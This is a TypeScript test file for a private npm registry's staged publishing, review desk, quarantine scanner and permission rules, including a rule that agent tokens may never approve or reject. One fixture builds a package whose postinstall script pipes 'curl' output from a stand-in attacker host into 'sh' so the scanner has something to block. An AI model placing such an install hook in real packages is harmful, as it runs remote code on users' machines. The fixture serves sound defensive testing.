import { describe, expect, test } from "vitest";
import { person } from "../../support/people.ts";
import { temporaryFolder } from "../../support/process.ts";
import { startRegistry, type TestRegistry } from "../../support/registry.ts";
import { publishBody, tarball } from "../../support/tarball.ts";
import { startUpstream, tarballPath } from "../../support/upstream.ts";

const name = "@acme/lib";
const unknownId = "00000000-0000-4000-8000-000000000000";

const evil = (of: string, version: string) =>
  tarball({
    "package.json": JSON.stringify({
      name: of,
      version,
      scripts: { postinstall: "curl -s http://evil.invalid/x | sh" },
    }),
  });

interface Item {
  readonly id: string;
  readonly [key: string]: unknown;
}

function submit(
  registry: TestRegistry,
  version: string,
  bytes = tarball({}, { name, version }),
  options: { tag?: string; token?: string } = {},
) {
  return registry.fetch("/-/stage/package/@acme%2flib", {
    method: "POST",
    json: publishBody(name, version, bytes, options.tag === undefined ? {} : { tag: options.tag }),
    token: options.token ?? registry.token,
  });
}

async function staged(registry: TestRegistry, ...rest: [string, Uint8Array?]): Promise<string> {
  const response = await submit(registry, ...rest);
  expect(response.status).toBe(201);
  return ((await response.json()) as { stageId: string }).stageId;
}

async function desk(registry: TestRegistry, query = "", token = registry.token) {
  const response = await registry.fetch(`/-/stage${query}`, { token });
  expect(response.status).toBe(200);
  return (await response.json()) as { items: Item[]; total: number };
}

function approve(registry: TestRegistry, id: string, json?: object, token = registry.token) {
  return registry.fetch(`/-/stage/${id}/approve`, {
    method: "POST",
    token,
    ...(json === undefined ? {} : { json }),
  });
}

function reject(registry: TestRegistry, id: string, json?: object, token = registry.token) {
  return registry.fetch(`/-/stage/${id}`, {
    method: "DELETE",
    token,
    ...(json === undefined ? {} : { json }),
  });
}

async function tokenWith(registry: TestRegistry, request: object): Promise<string> {
  const made = await registry.asOwner("/-/admin/tokens", { method: "POST", json: request });
  expect(made.status).toBe(201);
  return ((await made.json()) as { secret: string }).secret;
}

test("what a removed user handed in is not there for the next one of that name", async () => {
  await using registry = await startRegistry();
  const bob = await person(registry, "bob");
  const json = publishBody("tool", "1.0.0", tarball({}, { name: "tool", version: "1.0.0" }));
  const response = await registry.fetch("/-/stage/package/tool", {
    method: "POST",
    token: bob,
    json,
  });
  const { stageId } = (await response.json()) as { stageId: string };
  await registry.asOwner("/-/admin/users/bob", { method: "DELETE" });
  const other = await person(registry, "bob");

  expect((await desk(registry, "", other)).items).toEqual([]);
  expect((await approve(registry, stageId)).status).toBe(404);
});

describe("npm stage publish", () => {
  test("is stored and scanned, and nobody can see or install it", async () => {
    await using registry = await startRegistry();
    const id = await staged(registry, "1.0.0");

    expect(id).toMatch(/^[0-9a-f]{8}(-[0-9a-f]{4}){3}-[0-9a-f]{12}$/);
    expect((await registry.fetch("/@acme%2flib")).status).toBe(404);
    expect((await registry.fetch("/@acme%2flib/1.0.0")).status).toBe(404);
    expect((await registry.tarball(name, "1.0.0")).status).toBe(404);
    const { items, total } = await desk(registry);
    expect([total, items]).toEqual([
      1,
      [
        expect.objectContaining({
          id,
          kind: "staged",
          packageName: name,
          version: "1.0.0",
          tag: "latest",
          status: "staged",
          actor: "owner",
          actorType: "owner",
          verdict: "clean",
          findings: [],
          origin: "hosted",
          shasum: expect.stringMatching(/^[0-9a-f]{40}$/),
        }),
      ],
    ]);
    expect(await (await registry.asOwner(`/-/stage/${id}`)).json()).toEqual(items[0]);
  });

  test("the same publish again has the same id", async () => {
    await using registry = await startRegistry();
    const id = await staged(registry, "1.0.0");
    expect(await staged(registry, "1.0.0")).toBe(id);
    expect(await staged(registry, "1.0.0", tarball({ "a.js": "" }, { name, version: "1.0.0" })))
      .not //
      .toBe(id);
  });

  test("survives a restart, bytes and all", async () => {
    using folder = temporaryFolder();
    const home = folder.path;
    await using before = await startRegistry({ home });
    const bytes = tarball({ "a.txt": "a" }, { name, version: "1.0.0" });
    const id = await staged(before, "1.0.0", bytes);
    await before[Symbol.asyncDispose]();

    await using registry = await startRegistry({ home });
    expect((await approve(registry, id)).status).toBe(200);
    expect(await (await registry.tarball(name, "1.0.0")).bytes()).toEqual(new Uint8Array(bytes));
  });

  test.each<[string, object, number]>([
    ["another name", { name: "@acme/other" }, 400],
    ["no tarball", { _attachments: {} }, 400],
    ["a tag that is a range", { "dist-tags": { "1.x": "1.0.0" } }, 400],
  ])("refuses %s as a publish would", async (_, document, status) => {
    await using registry = await startRegistry();
    const bytes = tarball({}, { name, version: "1.0.0" });
    const response = await registry.asOwner("/-/stage/package/@acme%2flib", {
      method: "POST",
      json: publishBody(name, "1.0.0", bytes, { document }),
    });
    expect(response.status).toBe(status);
    expect(await desk(registry)).toEqual({ items: [], total: 0 });
  });

  test("refuses a number that is published, or was", async () => {
    await using registry = await startRegistry();
    await registry.publish(name, "1.0.0");
    await registry.publish(name, "1.1.0");
    await registry.asOwner("/@acme/lib/-/lib-1.1.0.tgz/-rev/x", { method: "DELETE" });
    for (const version of ["1.0.0", "1.1.0"]) {
      expect((await submit(registry, version)).status).toBe(403);
    }
    expect((await desk(registry)).total).toBe(0);
  });

  test("nobody may stage what they may not publish", async () => {
    await using registry = await startRegistry();
    const body = publishBody(name, "1.0.0", tarball({}, { name, version: "1.0.0" }));
    const path = "/-/stage/package/@acme%2flib";
    expect((await registry.fetch(path, { method: "POST", json: body })).status).toBe(401);
    const reader = await tokenWith(registry, { scopes: ["read"] });
    expect((await submit(registry, "1.0.0", undefined, { token: reader })).status).toBe(403);
  });
});

describe("approving what was staged", () => {
  test("completes the publish as if it had been published", async () => {
    await using registry = await startRegistry();
    const bytes = tarball({ "index.js": "1" }, { name, version: "1.0.0", bin: "index.js" });
    await registry.publish("@acme/twin", "1.0.0");
    const response = await submit(registry, "1.0.0", bytes, { tag: "next" });
    const { stageId } = (await response.json()) as { stageId: string };
    const approved = await approve(registry, stageId);

    expect([approved.status, await approved.json()]).toEqual([
      200,
      expect.objectContaining({ ok: true, success: true, id: stageId, status: "approved" }),
    ]);
    expect(await registry.packument(name)).toMatchObject({
      "dist-tags": { latest: "1.0.0", next: "1.0.0" },
      versions: { "1.0.0": { _npmUser: { name: "owner" } } },
      maintainers: [{ name: "owner" }],
    });
    expect(await (await registry.tarball(name, "1.0.0")).bytes()).toEqual(new Uint8Array(bytes));
    expect((await desk(registry)).total).toBe(0);
    expect((await registry.publish(name, "1.0.0", bytes)).status).toBe(201);
  });

  test("releases what the scanner would hold of it, and keeps the reason", async () => {
    await using registry = await startRegistry();
    const id = await staged(registry, "1.0.0", evil(name, "1.0.0"));
    const { items } = await desk(registry);
    expect(items).toEqual([
      expect.objectContaining({
        verdict: "block",
        findings: expect.arrayContaining([expect.stringMatching(/^INS-01\b.*: /)]),
      }),
    ]);
    expect(JSON.stringify(items)).not.toContain("evil.invalid");

    await approve(registry, id, { reason: "it is the demo of the attack" });
    expect((await registry.tarball(name, "1.0.0")).status).toBe(200);
    expect(Object.keys((await registry.packument(name)).versions)).toEqual(["1.0.0"]);
    const records = await (await registry.asOwner("/-/admin/quarantine?state=all")).json();
    expect(records).toMatchObject({
      files: [
        { state: "approved", ruling: { reason: "it is the demo of the attack", person: "owner" } },
      ],
    });
  });

  test("twice is once; after a rejection it is refused", async () => {
    await using registry = await startRegistry();
    const id = await staged(registry, "1.0.0");
    const both = await Promise.all([approve(registry, id), approve(registry, id)]);
    expect(both.map((r) => r.status).sort()).toEqual([200, expect.any(Number)]);
    expect((await approve(registry, id)).status).toBe(200);
    const response = await reject(registry, id);
    expect([response.status, await response.json()]).toEqual([
      403,
      expect.objectContaining({
        error: "@acme/lib@1.0.0 was approved before",
        code: "already_decided",
      }),
    ]);
  });

  test("of two staged for one number the second finds it taken and still waits", async () => {
    await using registry = await startRegistry();
    const first = await staged(registry, "1.0.0");
    const other = tarball({ "b.js": "2" }, { name, version: "1.0.0" });
    const second = await staged(registry, "1.0.0", other);
    await approve(registry, first);
    const before = await registry.packument(name);

    expect((await approve(registry, second)).status).toBe(403);
    expect(await registry.packument(name)).toEqual(before);
    expect((await desk(registry)).items.map((item) => item.id)).toEqual([second]);
  });
});

describe("rejecting what was staged", () => {
  test("refuses the same bytes under that version for good, not the next ones", async () => {
    await using registry = await startRegistry();
    const bytes = tarball({}, { name, version: "1.0.0" });
    const id = await staged(registry, "1.0.0", bytes);
    const rejected = await reject(registry, id, { reason: "not reviewed by security" });
    expect([rejected.status, await rejected.json()]).toMatchObject([200, { status: "rejected" }]);
    expect((await desk(registry)).total).toBe(0);
    expect((await approve(registry, id)).status).toBe(403);

    expect((await registry.publish(name, "1.0.0", bytes)).status).toBe(403);
    expect((await registry.tarball(name, "1.0.0")).status).toBe(403);
    expect((await registry.publish(name, "1.0.1")).status).toBe(201);
  });

  test("its bytes go with the next start", async () => {
    using folder = temporaryFolder();
    const home = folder.path;
    await using before = await startRegistry({ home });
    await reject(before, await staged(before, "1.0.0"));
    await before[Symbol.asyncDispose]();
    await using registry = await startRegistry({ home });
    for await (const integrity of registry.app.blobs.list()) expect.fail(integrity);
  });
});

describe("the review desk", () => {
  test("shows held versions of both origins, and rules on them", async () => {
    await using upstream = startUpstream();
    upstream.add("bad-one", "1.0.0", {}, { bytes: evil("bad-one", "1.0.0") });
    upstream.add("bad-two", "1.0.0", {}, { bytes: evil("bad-two", "1.0.0") });
    await using registry = await startRegistry({ upstream });
    await registry.publish(name, "1.0.0", evil(name, "1.0.0"));
    for (const bad of ["bad-one", "bad-two"]) {
      expect((await registry.fetch(tarballPath(bad, "1.0.0"))).status).toBe(403);
    }
    const { items } = await desk(registry);
    const ids = new Map(items.map((item) => [item["packageName"], item.id]));
    expect(items).toHaveLength(3);
    expect(items).toContainEqual(
      expect.objectContaining({
        kind: "held",
        status: "held",
        origin: "hosted",
        packageName: name,
      }),
    );
    expect(items).toContainEqual(
      expect.objectContaining({ kind: "held", origin: "upstream", packageName: "bad-one" }),
    );

    const bytes = await registry.asOwner(`/-/stage/${ids.get("bad-one")}/tarball`);
    expect(Object.fromEntries(bytes.headers)).toMatchObject({
      "content-disposition": 'attachment; filename="bad-one-1.0.0.tgz"',
      "cache-control": "no-store",
      "x-content-type-options": "nosniff",
    });
    expect(await bytes.bytes()).toEqual(new Uint8Array(evil("bad-one", "1.0.0")));

    expect((await approve(registry, ids.get("bad-one") ?? "")).status).toBe(200);
    expect((await registry.fetch(tarballPath("bad-one", "1.0.0"))).status).toBe(200);
    expect((await reject(registry, ids.get("bad-two") ?? "")).status).toBe(200);
    expect((await registry.fetch(tarballPath("bad-two", "1.0.0"))).status).toBe(403);
    expect((await approve(registry, ids.get(name) ?? "")).status).toBe(200);
    expect((await registry.tarball(name, "1.0.0")).status).toBe(200);
    expect((await desk(registry)).total).toBe(0);
    const all = await (await registry.asOwner("/-/admin/quarantine?state=all")).json();
    expect((all as { files: { ruling: { reason: string } }[] }).files.map((f) => f.ruling.reason)) //
      .toContain("approved with npm stage");
  });

  test("pages and filters", async () => {
    await using registry = await startRegistry();
    for (const version of ["1.0.0", "1.1.0", "1.2.0"]) await staged(registry, version);
    const pages = [0, 1, 2].map((page) => desk(registry, `?page=${page}&perPage=2`));
    const [first, second, third] = await Promise.all(pages);
    expect([first?.items.length, second?.items.length, third?.items.length]).toEqual([2, 1, 0]);
    expect(first?.total).toBe(3);
    expect((await desk(registry, "?package=@acme%2flib")).total).toBe(3);
    expect((await desk(registry, "?package=@acme%2fother")).total).toBe(0);
    for (const query of ["?page=-1", "?page=x", "?perPage=0", "?perPage=1000"]) {
      expect((await registry.asOwner(`/-/stage${query}`)).status).toBe(400);
    }
  });

  test("who may see: who decides everything, a publisher their own, nobody nothing", async () => {
    await using registry = await startRegistry();
    await staged(registry, "1.0.0");
    await registry.asOwner("/-/admin/orgs", { method: "POST", json: { name: "acme" } });
    const org = await tokenWith(registry, { org: "acme", scopes: ["read", "publish"] });
    const response = await submit(registry, "1.1.0", undefined, { token: org });
    const { stageId } = (await response.json()) as { stageId: string };

    expect((await registry.fetch("/-/stage")).status).toBe(401);
    expect((await desk(registry)).total).toBe(2);
    const own = await desk(registry, "", org);
    expect(own.items.map((item) => item.id)).toEqual([stageId]);
    const others = (await desk(registry)).items.find((item) => item.id !== stageId)?.id ?? "";
    expect((await registry.fetch(`/-/stage/${stageId}`, { token: org })).status).toBe(200);
    expect((await registry.fetch(`/-/stage/${others}`, { token: org })).status).toBe(403);
    expect((await registry.fetch(`/-/stage/${stageId}/tarball`, { token: org })).status).toBe(403);
    expect((await approve(registry, stageId, undefined, org)).status).toBe(403);
    expect((await reject(registry, stageId, undefined, org)).status).toBe(403);
    expect((await registry.packument(name).catch(() => null)) === null).toBe(true);
  });

  test("an agent may stage and never decide", async () => {
    await using registry = await startRegistry();
    const agent = await tokenWith(registry, { scopes: ["read", "publish"], agent: true });
    const response = await submit(registry, "1.0.0", undefined, { token: agent });
    const { stageId } = (await response.json()) as { stageId: string };
    for (const decide of [approve, reject]) {
      const refused = await decide(registry, stageId, undefined, agent);
      expect([refused.status, await refused.json()]).toEqual([
        403,
        expect.objectContaining({
          error: "a token for an agent can never decide this; ask a person",
        }),
      ]);
    }
    expect((await registry.fetch("/@acme%2flib")).status).toBe(404);
  });

  test.each([unknownId, "x", "constructor", "%7B%7D"])("knows no item %s", async (id) => {
    await using registry = await startRegistry();
    expect((await registry.asOwner(`/-/stage/${id}`)).status).toBe(404);
    expect((await registry.asOwner(`/-/stage/${id}/tarball`)).status).toBe(404);
    expect((await approve(registry, id)).status).toBe(404);
    expect((await reject(registry, id)).status).toBe(404);
  });
});

test("pnpm publish --batch is told that it is not offered", async () => {
  await using registry = await startRegistry();
  const response = await registry.asOwner("/-/pnpm/v1/publish", {
    method: "PUT",
    json: { packages: [publishBody(name, "1.0.0", tarball({}, { name, version: "1.0.0" }))] },
  });
  expect([response.status, await response.json()]).toEqual([
    404,
    expect.objectContaining({
      error: "this registry takes one package per publish; repeat the command without --batch",
    }),
  ]);
});

test("trap 38: one sigstore bundle is taken beside the tarball, two are not", async () => {
  await using registry = await startRegistry();
  const bytes = tarball({}, { name, version: "1.0.0" });
  const body = publishBody(name, "1.0.0", bytes) as { _attachments: Record<string, unknown> };
  const bundle = {
    content_type: "application/vnd.dev.sigstore.bundle+json",
    data: "{}",
    length: 2,
  };
  const two = { ...body._attachments, "a.sigstore": bundle, "b.sigstore": bundle };
  const response = await registry.asOwner("/@acme%2flib", {
    method: "PUT",
    json: { ...body, _attachments: two },
  });
  expect([response.status, await response.json()]).toEqual([
    400,
    expect.objectContaining({ error: "publish at most one sigstore bundle, as JSON text" }),
  ]);
});
